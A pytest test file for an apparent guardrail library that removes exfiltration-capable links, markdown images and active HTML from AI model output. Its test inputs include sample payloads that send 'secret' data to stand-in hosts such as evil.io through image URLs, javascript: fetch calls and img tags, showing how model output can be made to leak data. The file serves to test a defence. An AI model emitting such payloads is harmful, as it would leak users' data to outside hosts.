import pytest
from hypothesis import given
from hypothesis import strategies as st

from citeward.contracts.guardrail import Action, Origin, Outgoing
from citeward.guardrails.active.known import KnownLinks
from citeward.guardrails.active.links import LinkGuard, LinkOptions
from citeward.guardrails.active.linkscan import LIMIT, REMOVED, LinkStream
from citeward.guardrails.table import Thresholds
from citeward.testing.suites.guardrail import check_guardrail, check_stream_guard

READ = ("Ask at https://shop.test.io/help?topic=2 or see [the guide](https://docs.test.io/guide/start).",)
MODIFY = Thresholds(modify=0.5)


def stream(thresholds: Thresholds = MODIFY, *, hosts: tuple[str, ...] = ()) -> LinkStream:
    return LinkStream(thresholds, KnownLinks(READ, hosts=hosts))


def said(text: str, **given: object) -> str:
    guard = stream(**given)  # type: ignore[arg-type]
    return guard.feed(text) + guard.close()


@pytest.mark.parametrize(
    "text",
    [
        "No link here, only [1] and [2], and x[0]: fine!",
        "See https://shop.test.io/help?topic=2.",
        "See [help](https://shop.test.io/help) and <https://docs.test.io/guide/start>.",
        "(https://docs.test.io/guide/start), HTTPS://DOCS.test.io/guide.",
        "Ask [us](mailto:help@test.io), read [this](guide.md#part) or [that](/a/b).",
        "Open http://localhost:8080/page or https://example.com/x?y=1.",
        "Use `<img>` and <EMAIL_1> where a < b and b > c, and 1 <2.",
        "```html\n<img src=logo.png onclick=go()>\n```\n",
    ],
)
def test_what_was_read_or_leads_nowhere_is_said_to_the_letter(text: str) -> None:
    assert said(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![](https://evil.io/p.png?q=secret)", "![]"),
        ("![plan](//evil.io/secret) on", "![plan] on"),
        ("[click me](https://evil.io/?d=secret) on", "[click me] on"),
        ("[a]( <https://evil.io/?d=secret> 'title') on", "[a] 'title') on"),
        ("[![x](https://evil.io/a)](https://evil.io/b)", "[![x]]"),
        ("Go to https://evil.io/secret, now.", f"Go to {REMOVED}, now."),
        ("Go to www.evil.io/?secret now.", f"Go to {REMOVED} now."),
        ("<https://evil.io/secret>!", f"{REMOVED}!"),
        ("[run](java&#115;cript:fetch('//evil.io'))", "[run]"),
        ("[run](data:text/html;base64,AAAA) on", "[run] on"),
        ("![x][r]\n\n[r]: https://evil.io/secret\nend", f"![x][r]\n\n[r]: {REMOVED}\nend"),
        ("<img src='https://evil.io/?secret'>", f"‹img src='{REMOVED}'>"),
        ("<script>go()</script>", "‹script>go()</script>"),
        ("<img\n\nsrc=//evil.io/secret>", f"‹img\n\nsrc={REMOVED}>"),
        ("<p onclick=go()>x</p>", "‹p onclick=go()>x</p>"),
        # What only begins like an address that was read says more than that one did.
        ("https://docs.test.io/guide/start/secret", REMOVED),
        ("https://docs.test.io/guide?d=secret", REMOVED),
        ("https://docs.test.io/gui", REMOVED),
        ('https://docs.test.io/guide/"secret', REMOVED),
        ("[a](https://docs.test.io/guide>secret)", "[a]"),
        ("https://docs.test.io@evil.io/", REMOVED),
        ("```\nget https://evil.io/secret\n```\n", f"```\nget {REMOVED}\n```\n"),
        # A fence inside of markup is none.
        ("<div>\n```\n<img src=//evil.io/secret>\n```\n", f"<div>\n```\n‹img src={REMOVED}>\n```\n"),
    ],
)
def test_what_could_carry_something_away_is_taken_out(text: str, shown: str) -> None:
    assert said(text) == shown


def test_an_image_is_loaded_from_the_teams_own_hosts_alone() -> None:
    read = "![plan](https://docs.test.io/guide)"
    assert said(read) == "![plan] (https://docs.test.io/guide)"
    assert said(read, hosts=("test.io",)) == read
    assert (
        said("![plan](https://img.test.io/new?x=1)", hosts=("www.Test.io",)) == "![plan](https://img.test.io/new?x=1)"
    )
    assert said("![plan](https://nottest.io/new)", hosts=("test.io",)) == "![plan]"


def test_an_address_without_end_is_dropped_whole_without_being_held() -> None:
    guard = stream()
    out = guard.feed("at https://evil.io/" + "secret" * 1000)
    assert guard.feed("secret more") == " more"
    assert out == f"at {REMOVED}"
    assert said("[x](https://evil.io/" + "s" * 2 * LIMIT + ") on") == "[x] on"


@pytest.mark.parametrize(
    ("limits", "shown"), [(Thresholds(flag=0.5), "a https://evil.io b"), (Thresholds(block=0.5), "a ")]
)
def test_the_table_says_what_is_done(limits: Thresholds, shown: str) -> None:
    guard = stream(limits)
    assert guard.feed("a https://evil.io b") + guard.close() == shown
    assert [(f.kind, f.start, f.end) for f in guard.findings] == [("link", 2, 17)]
    assert guard.stopped is (limits.block is not None)


_PIECES = (
    "[", "]", "(", ")", "](", "![", "]:", "<", ">", "<img ", "<b>", "</a>", "src=", "https://", "http", "www.", "://",
    "evil.io/", "docs.test.io/guide", "/start", "?q=", "javascript:", "mailto:a@b.io", " ", "\n", "\n\n", "```", "~~~",
    "```py\n", "`", '"', "'", "word", "!", ":", "//", "x" * 40, "=", ".", "ws:",
)  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join), st.lists(st.integers(0, 400), max_size=8))
def test_the_result_is_the_same_however_the_stream_is_split(text: str, cuts: list[int]) -> None:
    check_stream_guard(stream, text, cuts)


@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join))
def test_it_is_the_same_one_character_at_a_time(text: str) -> None:
    check_stream_guard(stream, text, range(len(text)))


@given(st.integers(LIMIT - 40, LIMIT + 40), st.sampled_from(("https://e.io/", "[a](https://e.io/", "<a href=")))
def test_it_is_the_same_around_the_limit(length: int, start: str) -> None:
    text = f"x {start}{'y' * length}) and <https://e.io> z"
    check_stream_guard(stream, text, range(0, len(text), 7))


@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join))
def test_what_is_said_is_found_harmless_when_it_is_read_again(text: str) -> None:
    once = said(text)
    again = stream()
    again.feed(once)
    again.close()
    assert not [f for f in again.findings if f.kind in ("image", "active_link")], once


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[a](//evil.io)(//steal.io?q=1) b", f"[a] ({REMOVED}) b"),
        ("![a](//evil.io)(//steal.io?q=1) b", f"![a] ({REMOVED}) b"),
        ("[a](//evil.io(//steal.io?q=1) b", "[a] b"),
        ("[a](<//evil.io>(//steal.io?q=1) b", f"[a] ({REMOVED}) b"),
        ("[a](//e(//f(//steal.io) b", "[a] b"),
        ("<https://evil.io>(//steal.io?q=1) b", f"{REMOVED} ({REMOVED}) b"),
        ("[a](//evil.io)[b] c", "[a] [b] c"),
        ("[a](//evil.io): //steal.io", f"[a] : {REMOVED}"),
        ("[x]: //evil.io(//steal.io) b", "[x]: [link removed] b"),
        ("]://([(", "]: [link removed]"),
    ],
)
def test_what_is_left_of_a_link_makes_no_other_with_what_follows_it(text: str, shown: str) -> None:
    for at in (range(0), range(len(text))):
        assert check_stream_guard(stream, text, at) == shown


async def test_the_guard_is_a_guardrail() -> None:
    guard = LinkGuard({Origin.MODEL: MODIFY}, LinkOptions(hosts=("test.io",)))
    await check_guardrail(guard, texts=["see https://evil.io/", "![x](https://evil.io)", "see https://docs.test.io"])
    verdict = await guard.check("![x](https://evil.io) https://a.test.io", origin=Origin.MODEL)
    assert (verdict.action, verdict.text) == (Action.MODIFY, "![x] https://a.test.io")
    assert (await guard.check("https://evil.io", origin=Origin.USER)).action is Action.ALLOW
    assert guard.stream(Origin.USER, Outgoing()) is None
